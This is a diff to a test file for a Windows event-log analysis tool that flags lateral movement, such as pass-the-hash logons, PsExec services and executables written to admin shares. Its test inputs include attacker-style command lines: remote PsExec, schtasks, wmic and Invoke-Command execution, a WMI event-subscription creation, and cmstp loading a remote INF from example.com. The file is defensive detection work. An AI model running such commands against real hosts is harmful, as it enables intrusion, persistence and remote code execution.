@@ -37,9 +37,44 @@ describe('domain data', () => {
     assert.equal(m(7045, 'System')?.lateral, true);
     assert.equal(m(1102, 'Security', {}, 'Microsoft-Windows-Eventlog')?.meaning, 'log-cleared');
     assert.equal(m(4624, 'Application'), undefined, 'a 4624 outside the Security log means nothing');
-    const conn = m(3, 'Microsoft-Windows-Sysmon/Operational')!;
-    assert.equal(conn.sources.applies({ Initiated: 'true' }), false, 'an outbound connection names no source');
-    assert.equal(conn.sources.applies({ Initiated: 'false' }), true);
+    const out = m(3, 'Microsoft-Windows-Sysmon/Operational', { Initiated: 'true' })!;
+    assert.deepEqual(out.sources.address, [], 'an outbound connection names no source');
+    assert.deepEqual(out.targetAddress, ['DestinationIp'], 'but the host it reached');
+    const inbound = m(3, 'Microsoft-Windows-Sysmon/Operational', { Initiated: 'false' })!;
+    assert.deepEqual(inbound.sources.address, ['SourceIp']);
+    assert.deepEqual(inbound.targetAddress, []);
+    // RDP (type 10): WorkstationName is the target's own name, so only the address names the client.
+    assert.deepEqual(m(4624, 'Security', { LogonType: 10 })!.sources.host, []);
+    assert.deepEqual(m(4624, 'Security', { LogonType: 3 })!.sources.host, ['WorkstationName', 'SourceHostname']);
+    assert.deepEqual(addressClaims({ EventID: 4624, Channel: 'Security', LogonType: 10, IpAddress: '10.0.0.5', WorkstationName: 'SRV01' }, 'SRV01'), []);
+    // Movement suspicious in itself, and what it takes to be routine-learnt.
+    const logon = m(4624, 'Security', { LogonType: 3 })!;
+    assert.equal(logon.access, true);
+    assert.equal(logon.suspicious({ LogonType: 3, LogonProcessName: 'NtLmSsp', KeyLength: 0, TargetUserName: 'Administrator' }), 'pass-the-hash logon (NTLM without a session key)');
+    assert.equal(logon.suspicious({ LogonType: 3, LogonProcessName: 'NtLmSsp', KeyLength: 128, TargetUserName: 'Administrator' }), undefined);
+    assert.equal(logon.suspicious({ LogonType: 3, LogonProcessName: 'NtLmSsp', KeyLength: 0, TargetUserName: 'ANONYMOUS LOGON' }), undefined);
+    const svc = m(7045, 'System')!;
+    assert.equal(svc.suspicious({ ImagePath: '%SystemRoot%\\PSEXESVC.exe' }), 'a service whose binary is outside the install locations');
+    assert.equal(svc.suspicious({ ImagePath: '"C:\\Program Files\\Vendor\\agent.exe" -service' }), undefined);
+    assert.equal(svc.suspicious({ ImagePath: '%SystemRoot%\\system32\\svchost.exe -k netsvcs' }), undefined);
+    const share = m(5145, 'Security')!;
+    assert.equal(share.suspicious({ ShareName: '\\\\*\\ADMIN$', RelativeTargetName: 'PSEXESVC.exe', AccessList: '%%4417 %%4418' }), 'an executable written to an administrative share');
+    assert.equal(share.suspicious({ ShareName: '\\\\*\\ADMIN$', RelativeTargetName: 'PSEXESVC.exe', AccessList: '%%4416' }), undefined, 'read, not written');
+    assert.equal(share.suspicious({ ShareName: '\\\\*\\home$', RelativeTargetName: 'a.exe', AccessList: '%%4417' }), undefined, 'not an admin share');
+    const proc = m(1, 'Microsoft-Windows-Sysmon/Operational')!;
+    const named = (cmd: string) => proc.targetPatterns.map((p) => p.re.exec(cmd)?.[1]).find((x) => x);
+    assert.equal(named('PsExec64.exe \\\\SRV03 -accepteula -s cmd'), 'SRV03');
+    assert.equal(named('schtasks /create /s srv07.corp.local /tn x /tr y'), 'srv07.corp.local');
+    assert.equal(named('powershell -c Invoke-Command -ComputerName DC01 {}'), 'DC01');
+    assert.equal(named('"C:\\Windows\\system32\\mstsc.exe" /v:JUMP01.corp.local'), 'JUMP01.corp.local');
+    assert.equal(named('cmd.exe /c dir \\\\?\\C:\\x'), undefined);
+    // Seen in real attack recordings: a URL after regsvr32's or cmstp's /s, a WMI namespace, a port after /v:.
+    assert.equal(named('cmstp.exe /ni /s https://example.com/p.inf'), undefined);
+    assert.equal(named('"C:\\Windows\\System32\\wbem\\WMIC.exe" /namespace:"\\\\root\\subscription" PATH __EventFilter CREATE'), undefined);
+    assert.equal(named('wmic /node:"SRV02" process call create x'), 'SRV02');
+    assert.equal(named('mstsc.exe /v:srv01:3389'), 'srv01');
+    assert.equal(named('net use \\\\FS01\\C$ /u:CORP\\admin'), 'FS01');
+    assert.deepEqual(d.processFields.image, ['Image', 'NewProcessName']);
     assert.ok(d.isNoiseAccount('system', 'nt authority'));
     assert.ok(d.isNoiseAccount('dwm-3', ''));
     assert.ok(!d.isNoiseAccount('alice', 'corp'));
